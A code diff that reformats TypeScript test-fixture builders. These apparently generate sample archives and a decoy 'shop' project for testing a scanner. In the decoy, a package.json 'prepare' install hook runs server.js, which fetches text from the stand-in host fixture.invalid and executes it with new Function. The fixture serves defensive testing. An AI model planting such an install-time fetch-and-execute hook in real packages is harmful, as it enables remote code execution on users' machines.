@@ -17,9 +17,13 @@ export async function codeTree(count: number): Promise<string> {
   if (existsSync(join(folder, 'complete'))) return folder;
   let written = 0;
   for (let round = 0; written < count; round++) {
-    for (const archive of readdirSync(TRAPS).filter((name) => name.endsWith('.tgz')).sort()) {
+    for (const archive of readdirSync(TRAPS)
+      .filter((name) => name.endsWith('.tgz'))
+      .sort()) {
       const tree = await openTree(join(TRAPS, archive), { limits: defaultLimits });
-      const code = tree.files.filter((file) => CODE.test(file.name) && !/\.d\.[cm]?ts$/.test(file.name) && file.size <= LARGEST);
+      const code = tree.files.filter(
+        (file) => CODE.test(file.name) && !/\.d\.[cm]?ts$/.test(file.name) && file.size <= LARGEST,
+      );
       const from = code.length === 0 ? 0 : (round * PER_ARCHIVE) % code.length;
       for (const file of code.slice(from, from + PER_ARCHIVE)) {
         if (written >= count) break;
@@ -40,10 +44,21 @@ export function lureTree(): string {
   mkdirSync(join(folder, 'src'), { recursive: true });
   for (let i = 0; i < 298; i++) {
     const next = i < 297 ? `import { part${i + 1} } from './part${i + 1}.js';\n` : '';
-    writeFileSync(join(folder, 'src', `part${i}.js`), `${next}export function part${i}(input) {\n  const rows = input.map((row) => ({ ...row, total: row.price * row.count }));\n  return ${i < 297 ? `part${i + 1}(rows)` : 'rows'};\n}\n`.repeat(1));
+    writeFileSync(
+      join(folder, 'src', `part${i}.js`),
+      `${next}export function part${i}(input) {\n  const rows = input.map((row) => ({ ...row, total: row.price * row.count }));\n  return ${i < 297 ? `part${i + 1}(rows)` : 'rows'};\n}\n`.repeat(
+        1,
+      ),
+    );
   }
-  writeFileSync(join(folder, 'package.json'), '{"name":"shop","scripts":{"prepare":"node server.js"},"dependencies":{"axios":"1.0.0"}}');
-  writeFileSync(join(folder, 'server.js'), "import './src/part0.js';\nimport axios from 'axios';\naxios.get('https://fixture.invalid/api').then((r) => new Function('require', r.data)(() => null));\n");
+  writeFileSync(
+    join(folder, 'package.json'),
+    '{"name":"shop","scripts":{"prepare":"node server.js"},"dependencies":{"axios":"1.0.0"}}',
+  );
+  writeFileSync(
+    join(folder, 'server.js'),
+    "import './src/part0.js';\nimport axios from 'axios';\naxios.get('https://fixture.invalid/api').then((r) => new Function('require', r.data)(() => null));\n",
+  );
   return folder;
 }
 
